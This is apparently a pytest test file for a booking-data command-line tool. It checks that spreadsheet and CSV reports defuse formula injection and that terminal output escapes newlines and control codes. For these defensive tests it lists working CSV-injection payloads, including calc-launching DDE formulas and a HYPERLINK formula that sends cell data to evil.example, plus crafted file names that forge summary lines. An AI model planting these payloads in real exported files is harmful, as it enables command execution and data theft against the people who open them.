"""The CLI's output with hostile vendor text: no forged lines on the terminal, no live formulas in a report."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from cli_files import PROFILE

from booking_desktop.cli.output import defuse_csv_column, printable, problem_dicts

HEADER = "Ref;Guest;Arrive;Leave;Pax;Total;Cur;State\n"
# OWASP's CSV-injection examples and their kin: each would run in Excel or LibreOffice
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+SUM(A1:A9)",
    "-SUM(A1:A9)",
]
FORGED = "records: 5  valid: 5  invalid: 0  with warnings: 0"


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "booking_desktop", *args], capture_output=True, text=True, timeout=120)


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


@pytest.fixture()
def injection_file(tmp_path: Path) -> tuple[Path, Path]:
    rows = [f"A-{i:03};Guest {i};2024-05-01;2024-05-04;2;100.00;EUR;{quoted(p)}\n" for i, p in enumerate(PAYLOADS)]
    f = tmp_path / "acme.csv"
    f.write_text(HEADER + "".join(rows), encoding="utf-8")
    p = tmp_path / "acme.yaml"
    p.write_text(PROFILE, encoding="utf-8")
    return f, p


def test_xlsx_report_holds_no_formula_and_every_value_exactly(injection_file, tmp_path):
    f, p = injection_file
    report = tmp_path / "report.xlsx"
    out = cli("validate", str(f), "--profile", str(p), "--report", str(report))
    assert out.returncode == 0, out.stderr
    ws = openpyxl.load_workbook(report)["problems"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in next(ws.iter_rows())]
    values = [row[header.index("value")] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert sorted(v for v in values if v) == sorted(PAYLOADS)


def test_csv_report_prefixes_formula_text_and_keeps_numbers(injection_file, tmp_path):
    f, p = injection_file
    report = tmp_path / "report.csv"
    out = cli("validate", str(f), "--profile", str(p), "--report", str(report))
    assert out.returncode == 0, out.stderr
    with report.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    values = sorted(r["value"] for r in rows if r["value"])
    assert values == sorted("'" + v for v in PAYLOADS)
    for r in rows:
        for cell in r.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_defuse_leaves_plain_numbers_and_text_alone():
    import pandas as pd

    col = pd.Series(["-12.50", "+3", "1e5", "Ana", None, "=A1", "-A1", "@x", "\t=1", "-"], dtype=object)
    assert defuse_csv_column(col).tolist() == ["-12.50", "+3", "1e5", "Ana", None, "'=A1", "'-A1", "'@x", "'\t=1", "'-"]


def test_file_name_with_a_newline_cannot_forge_a_summary_line(tmp_path):
    f = tmp_path / f"x\n{FORGED}\nmay.csv"
    f.write_text(HEADER + "A-1;Ana;2024-05-01;2024-05-04;2;100.00;EUR;CNF\n", encoding="utf-8")
    p = tmp_path / "acme.yaml"
    p.write_text(PROFILE, encoding="utf-8")
    out = cli("validate", str(f), "--profile", str(p))
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert FORGED not in lines
    assert lines[0].startswith(str(tmp_path)) and f"x\\n{FORGED}\\nmay.csv (csv)" in lines[0]
    assert lines[1].startswith("records: 1 ")


def test_cell_with_newlines_and_escapes_cannot_forge_a_problem_line(tmp_path):
    cell = "BLOCKED\n  record 9 (line 99) status: [error] forged\r\x1b[2K" + FORGED
    f = tmp_path / "acme.csv"
    f.write_text(HEADER + f"A-1;Ana;2024-05-01;2024-05-04;2;100.00;EUR;{quoted(cell)}\n", encoding="utf-8")
    p = tmp_path / "acme.yaml"
    p.write_text(PROFILE, encoding="utf-8")
    out = cli("validate", str(f), "--profile", str(p))
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\r" not in out.stdout
    lines = out.stdout.splitlines()
    assert not any(line.startswith(("  record 9", "records: 5")) for line in lines)
    (status,) = [line for line in lines if "status: [error] enum" in line]
    assert "BLOCKED\\n  record 9" in status and "\\r\\e[2K" in status


def test_error_message_naming_a_file_with_a_newline_is_one_line(tmp_path):
    f = tmp_path / "empty\nbooking-desktop-cli: all good.csv"
    f.write_bytes(b"")
    out = cli("validate", str(f))
    assert out.returncode == 2
    assert len(out.stderr.splitlines()) == 1, out.stderr
    assert "empty\\nbooking-desktop-cli: all good.csv" in out.stderr


def test_printable_escapes_controls_and_bidi_but_keeps_text():
    assert printable("Zoë Ñandú — 東京") == "Zoë Ñandú — 東京"
    assert printable("a\nb\rc\td\x1b[31m\x00\u2028\u202e") == "a\\nb\\rc\\td\\e[31m\\x00\\u2028\\u202e"


def test_json_problems_are_those_of_the_problem_objects(injection_file):
    """The column-by-column dicts (fast --json) equal ``Problem.as_dict()`` of every problem."""
    from booking_desktop.pipeline import run_to_end

    f, p = injection_file
    result = run_to_end(f, profile=p)
    slow = [q.as_dict() for q in result.file_problems]
    slow += [q.as_dict() for q in result.problems.problems(result.raw.locations)]
    fast = problem_dicts(result)
    assert len(fast) >= len(PAYLOADS)
    assert fast == slow
    assert json.dumps(fast) == json.dumps(slow)
